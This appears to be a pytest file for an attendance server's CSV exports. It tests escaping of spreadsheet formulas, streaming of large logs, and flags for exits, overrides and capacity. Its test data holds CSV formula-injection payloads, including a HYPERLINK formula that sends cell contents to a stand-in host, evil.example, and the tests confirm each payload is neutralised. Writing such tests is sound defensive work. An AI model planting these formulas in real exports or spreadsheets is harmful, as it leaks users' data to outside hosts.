"""The CSV exports (server/exports.py): a session's attendance and the scan log, through
the API, read back with the csv module; every cell safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from core.rules import Decision, Reason
from server.exports import ATTENDANCE_HEADER, SCANS_HEADER, safe_cell
from server.store import Attendee, Device, ServerStore
from sync.messages import Scan, SessionInfo

HOSTILE = {
    "H1": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "H2": "+1",
    "H3": "-2",
    "H4": "@SUM(A1:A9)",
    "H5": "\t=1+1",
    "H6": "\r=1+1",
    "H7": 'Quote "the" Name, with comma',
    "H8": "Line one\nLine two",
    "H9": "Zoë Ünïcode 名前",
}


def test_safe_cell() -> None:
    assert safe_cell(None) == "" and safe_cell(True) == "yes" and safe_cell(False) == "no"
    assert safe_cell(3) == "3" and safe_cell("Ann") == "Ann"
    for value in ("=1", "+1", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(value) == "'" + value
    assert safe_cell("a=b") == "a=b" and safe_cell("") == ""


def _scan(n: int, code: str, session: str, decision: str, reason: str, at: datetime,
          device: str = "door-1") -> Scan:
    return Scan(f"{device}-{n}", n, code, session, decision, reason, at.isoformat(), n, "boot")


def _read(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


def _dangerous(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.filterwarnings("ignore:Using `httpx` with `starlette.testclient`")
def test_exports_through_the_api(tmp_path: Path, database: str | None,
                                 server_target: Path | str) -> None:
    import asyncio

    from starlette.testclient import TestClient

    from server.app import create_app

    async def fill() -> None:
        store = await ServerStore.open(server_target)
        try:
            await store.upsert_attendees([Attendee(c, n, f"{c.lower()}@example.org")
                                          for c, n in HOSTILE.items()]
                                         + [Attendee("OK1", "Plain Person", "=cmd@x.org")])
            await store.put_session(SessionInfo("s1", "Keynote", True))
            await store.put_session(SessionInfo("s2", "Other", False))
            await store.put_registrants("s1", [*HOSTILE, "OK1"])
            now = datetime.now(UTC)
            await store.store_scans(Device("door-1", "s1"), [
                _scan(1, "H1", "s1", Decision.ADMITTED, Reason.REGISTERED, now),
                _scan(2, "H1", "s1", Decision.ADMITTED, Reason.REENTRY,
                      now + timedelta(seconds=5)),
                _scan(3, "H2", "s1", Decision.REJECTED, Reason.OUTSIDE_WINDOW, now),
                _scan(4, "-X1", "s1", Decision.REJECTED, Reason.UNKNOWN_CODE, now),
                # made offline 10 minutes ago, uploaded now: late
                _scan(5, "H3", "s1", Decision.ADMITTED, Reason.REGISTERED,
                      now - timedelta(minutes=10)),
                # admitted though not a registrant: the audit flags it
                _scan(6, "=EVIL", "s1", Decision.ADMITTED, Reason.REGISTERED, now),
            ])
            await store.store_scans(Device("door-2", "s2"), [
                _scan(1, "H4", "s2", Decision.ADMITTED, Reason.REGISTERED, now, "door-2")])
        finally:
            await store.close()

    asyncio.run(fill())
    admin = {"Authorization": "Bearer admin-token"}
    with TestClient(create_app(tmp_path, "admin-token", database=database)) as client:
        answer = client.get("/api/sessions/s1/attendance.csv", headers=admin)
        assert answer.status_code == 200
        assert answer.headers["content-type"] == "text/csv; charset=utf-8"
        assert answer.headers["content-disposition"] == (
            'attachment; filename="attendance-s1.csv"')
        rows = _read(answer.content)
        assert tuple(rows[0]) == ATTENDANCE_HEADER
        by_code = {r[0]: dict(zip(ATTENDANCE_HEADER, r, strict=True)) for r in rows[1:]}
        # registrants and whoever was scanned for the session, nobody else
        assert set(by_code) == {*HOSTILE, "OK1", "'-X1", "'=EVIL"}
        for code, name in HOSTILE.items():  # every name reads back whole, made safe
            assert by_code[code]["name"] == safe_cell(name)
        assert by_code["H7"]["name"] == 'Quote "the" Name, with comma'
        assert by_code["H8"]["name"] == "Line one\nLine two"
        assert by_code["H9"]["name"] == "Zoë Ünïcode 名前"
        assert by_code["OK1"]["email"] == "'=cmd@x.org"
        h1 = by_code["H1"]
        assert h1["registered"] == "yes" and h1["door"] == "door-1"
        assert h1["reentries"] == "1" and h1["rejected_attempts"] == "0"
        assert h1["first_admitted_at"] and h1["first_admitted_at"][0].isdigit()
        assert by_code["H2"]["rejected_attempts"] == "1"
        assert by_code["H2"]["first_admitted_at"] == "" and by_code["H2"]["door"] == ""
        assert by_code["'=EVIL"]["registered"] == "no" and by_code["'=EVIL"]["name"] == ""
        assert not any(_dangerous(cell) for row in rows for cell in row)

        answer = client.get("/api/scans.csv", headers=admin)
        assert answer.status_code == 200
        assert answer.headers["content-type"] == "text/csv; charset=utf-8"
        assert 'filename="scans.csv"' in answer.headers["content-disposition"]
        rows = _read(answer.content)
        assert tuple(rows[0]) == SCANS_HEADER and len(rows) == 8
        scans = {r[0]: dict(zip(SCANS_HEADER, r, strict=True)) for r in rows[1:]}
        assert not any(_dangerous(cell) for row in rows for cell in row)
        assert scans["door-1-5"]["uploaded_late"] == "yes"
        assert scans["door-1-1"]["uploaded_late"] == "no"
        assert scans["door-1-4"]["code"] == "'-X1"
        assert "server data says" in scans["door-1-6"]["flagged"]
        assert scans["door-1-6"]["code"] == "'=EVIL"
        assert scans["door-1-1"]["flagged"] == ""
        assert scans["door-2-1"]["device"] == "door-2" and scans["door-2-1"]["session"] == "s2"

        only = _read(client.get("/api/scans.csv?session_id=s2", headers=admin).content)
        assert len(only) == 2 and only[1][0] == "door-2-1"
        assert len(_read(client.get("/api/scans.csv?session_id=gone",
                                    headers=admin).content)) == 1  # the header alone

        assert client.get("/api/scans.csv").status_code == 401
        assert client.get("/api/sessions/s1/attendance.csv").status_code == 401
        missing = client.get("/api/sessions/nope/attendance.csv", headers=admin)
        assert missing.status_code == 404 and "nope" in missing.json()["error"]
        bad = client.get("/api/scans.csv?session_id=%3D1", headers=admin)
        assert bad.status_code == 400 and "session_id" in bad.json()["error"]
        # the existing JSON keeps every field
        old = client.get("/api/sessions/s1/attendance", headers=admin).json()
        assert {"session_id", "registered", "admitted", "rejected", "scans"} <= set(old)


async def test_exports_page_through_large_logs(server_target: Path | str) -> None:
    """Pages follow one another without a gap or a repeat (the files are streamed a page
    at a time, never read whole)."""
    from server.exports import attendance_csv, scans_csv

    store = await ServerStore.open(server_target)
    try:
        codes = [f"C{i:04d}" for i in range(1800)]
        await store.upsert_attendees([Attendee(c, f"Name {c}") for c in codes])
        await store.put_session(SessionInfo("s1", "Big", False))
        await store.put_registrants("s1", codes[:1200])
        now = datetime.now(UTC)
        await store.store_scans(Device("door-1", "s1"), [
            _scan(n, codes[n % 1800], "s1", Decision.ADMITTED, Reason.REGISTERED, now)
            for n in range(2500)])
        chunks = [c async for c in await scans_csv(store)]
        assert len(chunks) > 3  # header, then pages of 1000
        rows = _read(b"".join(chunks))
        assert len(rows) == 2501 and len({r[0] for r in rows[1:]}) == 2500
        chunks = [c async for c in await attendance_csv(store, "s1")]
        assert len(chunks) > 3
        rows = _read(b"".join(chunks))
        assert [r[0] for r in rows[1:]] == codes  # 1,200 registrants, 600 more scanned
        assert {r[3] for r in rows[1:1201]} == {"yes"} and {r[3] for r in rows[1201:]} == {"no"}
        assert rows[1][6] == "1" and rows[1000][6] == "0"  # C0000 scanned twice
    finally:
        await store.close()


async def test_exports_show_exits_overrides_flags_and_minutes_in_session(
        server_target: Path | str) -> None:
    """Issue 14: exits are not admissions; each attendee's whole minutes in the session and
    staff overrides; each scan's direction, the scan an override overrules, its flags."""
    from server.exports import attendance_csv, scans_csv

    store = await ServerStore.open(server_target)
    try:
        await store.upsert_attendees([Attendee(c, c) for c in ("A1", "B2", "C3")])
        await store.put_session(SessionInfo("s1", "Talk", False, "2026-11-28T10:00:00Z",
                                            "2026-11-28T11:00:00Z", capacity=1))
        start = datetime(2026, 11, 28, 10, tzinfo=UTC)
        out = Scan("door-1-3", 3, "A1", "s1", "admitted", "registered",
                   (start + timedelta(minutes=25, seconds=50)).isoformat(), 3, "b",
                   direction="out")
        override = Scan("door-2-2", 2, "B2", "s1", "admitted", "override",
                        (start + timedelta(minutes=30)).isoformat(), 2, "b",
                        override_of="door-2-1")
        await store.store_scans(Device("door-1", "s1"), [
            _scan(1, "A1", "s1", Decision.ADMITTED, Reason.REGISTERED, start), out])
        await store.store_scans(Device("door-2", "s1"), [
            _scan(1, "B2", "s1", Decision.REJECTED, Reason.FULL, start, "door-2"), override,
            _scan(3, "C3", "s1", Decision.ADMITTED, Reason.REGISTERED,
                  start - timedelta(minutes=5), "door-2")])
        rows = _read(b"".join([c async for c in await attendance_csv(store, "s1")]))
        by_code = {r[0]: dict(zip(ATTENDANCE_HEADER, r, strict=True)) for r in rows[1:]}
        assert {c: (r["minutes_in_session"], r["overrides"], r["reentries"])
                for c, r in by_code.items()} == {
            "A1": ("25", "0", "0"),   # 25 min 50 s: whole minutes
            "B2": ("30", "1", "0"),   # in by override at 10:30, to the end (11:00)
            "C3": ("60", "0", "0")}   # before the start counts from the start
        rows = _read(b"".join([c async for c in await scans_csv(store, "s1")]))
        scans = {r[0]: dict(zip(SCANS_HEADER, r, strict=True)) for r in rows[1:]}
        assert scans["door-1-3"]["direction"] == "out"
        assert scans["door-1-1"]["direction"] == "in"
        assert scans["door-2-2"]["override_of"] == "door-2-1"
        # A1 had left (door-1's scans came first): B2 fits, C3 (uploaded after) does not.
        assert scans["door-2-2"]["over_capacity"] == ""
        assert scans["door-2-3"]["over_capacity"] == "2 inside, past the capacity of 1"
        assert scans["door-1-1"]["double_admission"] == ""
    finally:
        await store.close()
